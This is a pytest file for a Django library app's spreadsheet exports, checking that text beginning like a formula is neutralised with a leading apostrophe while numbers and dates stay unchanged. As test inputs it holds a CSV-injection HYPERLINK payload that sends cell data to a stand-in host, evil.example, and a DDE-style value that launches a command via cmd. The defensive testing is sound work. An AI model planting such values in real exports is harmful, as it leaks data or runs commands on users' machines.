"""Exports are inert (issue #11, finding 6): text that a spreadsheet would run as a formula
is written as text with a leading apostrophe (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.exports import safe_cell
from core.models import Role, Track
from tests.factories import make_branch, make_user
from tests.plans.factories import make_initiative, make_plan
from tests.volunteers.factories import at, make_activity, make_shift, make_signup, make_volunteer

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
YEAR = 2027


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_begins_like_a_formula_gets_an_apostrophe(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-3, 0, Decimal("-1.5"), -2.25, True, None, date(2027, 3, 1)])
def test_numbers_dates_and_booleans_are_left_as_they_are(value: Any) -> None:
    assert safe_cell(value) is value


def test_plain_text_and_translated_text_pass_as_text() -> None:
    assert safe_cell("Læsekreds for unge") == "Læsekreds for unge"
    assert safe_cell("Strik = hygge") == "Strik = hygge"  # only the first character counts
    assert safe_cell(gettext_lazy("Volunteer")) in {"Volunteer", "Frivillig"}


def _staff_client(branch: Any) -> Client:
    client = Client()
    client.force_login(make_user(role=Role.STAFF, branches=[branch], password=None))
    return client


@pytest.mark.django_db
def test_a_formula_title_comes_out_of_the_xlsx_report_as_text() -> None:
    branch = make_branch(name="Hovedbiblioteket")
    plan = make_plan(year=YEAR)
    make_initiative(
        plan=plan, title=FORMULA, tracks=[Track.objects.get(slug="hygge")], branches=[branch]
    )
    response = _staff_client(branch).get(f"/plan/rapport/{YEAR}/year.xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    title = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert title.value == "'" + FORMULA and title.data_type == "s"
    quarters = [c.value for c in wb["Kvartaler"]["B"][1:]]
    assert quarters and all(isinstance(q, int) for q in quarters)  # numbers stay numbers


@pytest.mark.django_db
def test_a_formula_branch_name_comes_out_of_the_csv_report_as_text() -> None:
    branch = make_branch(name="@SUM(1+1)*cmd|' /C calc'!A0")
    make_plan(year=YEAR)
    response = _staff_client(branch).get(f"/plan/rapport/{YEAR}/year.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    branches = {row[1] for row in rows[1:]}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in branches
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert rows[1][3].isdigit()  # the numbers are still plain numbers


@pytest.mark.django_db
def test_a_formula_volunteer_name_comes_out_of_the_hours_csv_as_text() -> None:
    branch = make_branch()
    volunteer = make_volunteer(branches=[branch], name=FORMULA)
    shift = make_shift(activity=make_activity(branch=branch), start=at(date(YEAR, 3, 2), 10))
    make_signup(shift=shift, volunteer=volunteer, attended=True, hours="2.5")
    response = _staff_client(branch).get(
        "/personale/frivillige/timer/", {"year": YEAR, "group_by": "volunteer", "format": "csv"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'" + FORMULA, "", "2,50", "1"]
